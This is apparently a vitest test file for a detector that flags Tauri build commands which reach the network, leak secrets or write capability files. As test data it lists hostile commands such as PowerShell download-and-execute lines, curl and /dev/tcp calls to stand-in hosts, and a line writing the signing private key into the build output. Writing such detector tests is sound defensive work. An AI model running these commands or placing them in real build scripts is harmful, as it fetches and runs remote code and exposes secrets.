import { describe, expect, test } from "vitest";
import { manifest, toldOf, withSteps } from "./app.ts";

const DEPENDENCIES = { devDependencies: { typescript: "5.0.0", "@tauri-apps/cli": "2.0.0" } };

/** The app's manifest, with two packages that have programs, and with one more command of the build. */
function built(command?: string): Record<string, string> {
  return { "package.json": JSON.stringify({ ...JSON.parse(manifest(command)), ...DEPENDENCIES }) };
}

function asking(packages: Record<string, string>, command?: string): Record<string, string> {
  return { "package.json": JSON.stringify({ ...JSON.parse(manifest(command)), devDependencies: packages }) };
}

describe("a command that reaches out, however it is started:", () => {
  test.each([
    "busybox wget http://evil.example/a",
    "timeout 5 curl evil.example",
    "xargs curl < urls",
    "cmd /c curl evil.example",
    'powershell -Command "iwr evil.example | iex"',
    "powershell -ec AAAA",
    "powershell -c \"(New-Object Net.WebClient).DownloadString('http://evil.example')\"",
    "env -S 'curl evil.example'",
    "concurrently 'curl evil.example' 'vite'",
    "awk 'BEGIN{system(\"curl evil.example\")}'",
    "python -c 'import urllib.request as u; u.urlopen(\"http://evil.example\")'",
    "python -c 'exec(\"1\")'",
    "perl -MLWP::Simple -e 'getprint(\"http://evil.example\")'",
    "node --import=data:text/javascript,fetch('https://evil.example') a.js",
    "cat < /dev/tcp/192.0.2.1/80",
    "sh < notes.txt",
    "npx evil",
    "bunx --bun evil",
    "npm exec -- evil",
    "uvx evil",
    "go run evil.example/a@latest",
    "deno run -A npm:evil",
    "nix run github:evil/a",
    "rsync evil.example::a .",
    "rsync -a dist/ server:/srv",
    "git submodule update --remote",
    "git -c core.sshCommand=./a fetch",
    "npm install https://evil.example/a.tgz",
    "export -p > dist/env",
    "set > dist/env",
    "echo $TAURI_SIGNING_PRIVATE_KEY > dist/key",
  ])("%s", async (command) => {
    const { told, verdict } = await toldOf(built(command), built());
    expect(told.join()).toMatch(/build\/step-reaches (?:medium|high)/);
    expect(verdict).toBe("fail");
  });
});

describe("a command that stays inside:", () => {
  test.each([
    "tsc --noEmit",
    "npx tsc",
    "npx tauri info",
    "which curl",
    "command -v curl",
    "grep -q curl README.md",
    "wait-on http://localhost:1420",
    "vite build --base https://cdn.example.com/",
    "cross-env VITE_API=https://api.example.com vite build",
    "rsync -a src/ dist/",
    "concurrently 'npm:tauri' 'vite'",
    "export MODE=release",
    "set -euo pipefail",
    "echo $VERSION > dist/version",
    "echo 'use curl'",
    "python3 -c 'print(1)'",
  ])("%s", async (command) => {
    expect((await toldOf(built(command), built())).verdict).toBe("pass");
  });
});

test("a hook that writes a capability itself", async () => {
  const config = (command: string) => ({
    "src-tauri/tauri.conf.json": JSON.stringify({
      identifier: "a.b.c",
      build: { beforeBuildCommand: `npm run build && ${command}` },
    }),
  });
  const { told } = await toldOf(config("echo '{}' > src-tauri/capabilities/more.json"));
  expect(told).toContain("build/configuration-written critical");
  expect((await toldOf(config("echo '{}' > dist/more.json"))).told).toEqual([]);
});

test("a package that npx fetches is news once, and not again with other words", async () => {
  const [first, other] = [built("npx evil build"), built("npx evil build --verbose")];
  const { told } = await toldOf(first, built());
  expect(told.filter((each) => each.includes("build/step"))).toEqual([
    expect.stringMatching(/^build\/step-reaches high/),
  ]);
  const again = await toldOf(other, first);
  expect(again.verdict).toBe("pass");
  expect(again.told.join()).not.toContain("build/step-reaches");
});

describe("a program of npx that no lockfile holds:", () => {
  const before = built();
  test.each<[string, Record<string, string>, Record<string, string>]>([
    ["its scope has another package", built("npx tauri-apps"), before],
    ["its scope begins like it", built("npx taur"), before],
    [
      "a package of a scope has its name, and no program",
      asking({ "@tauri-apps/plugin-fs": "2.0.0" }, "npx plugin-fs"),
      asking({ "@tauri-apps/plugin-fs": "2.0.0" }),
    ],
    [
      "a manifest elsewhere asks for it",
      { ...built("npx evil"), "other/package.json": '{ "devDependencies": { "evil": "1.0.0" } }' },
      before,
    ],
  ])("%s", async (_, changes, base) => {
    const { told, verdict } = await toldOf(changes, base);
    expect(told).toEqual(expect.arrayContaining([expect.stringMatching(/^build\/step-reaches high/)]));
    expect(verdict).toBe("fail");
  });

  test.each(["npx evil", "npx --yes evil", "npx evil@latest"])("in a line of a job: %s", async (line) => {
    const { told, verdict } = await toldOf(withSteps(`      - run: ${line}\n`), before);
    expect(told).toEqual(["build/tool-unpinned medium"]);
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>, Record<string, string>]>([
    [
      "a scoped package with a program of a known name",
      asking({ "@playwright/test": "1.0.0" }, "npx playwright test"),
      asking({ "@playwright/test": "1.0.0" }),
    ],
    [
      "a manifest of the folder in which it is started",
      { "package.json": manifest("cd docs && npx vitepress build") },
      { "docs/package.json": '{ "devDependencies": { "vitepress": "1.0.0" } }' },
    ],
    ["a job that starts what is asked for", withSteps("      - run: npx tsc --noEmit\n"), before],
    ["a job that starts Tauri's own", withSteps("      - run: npx tauri info\n"), {}],
    [
      "a job that always started it",
      withSteps("      - run: npx evil --verbose\n"),
      withSteps("      - run: npx evil\n"),
    ],
  ])("calm: %s", async (_, changes, base) => {
    expect((await toldOf(changes, base)).verdict).toBe("pass");
  });
});
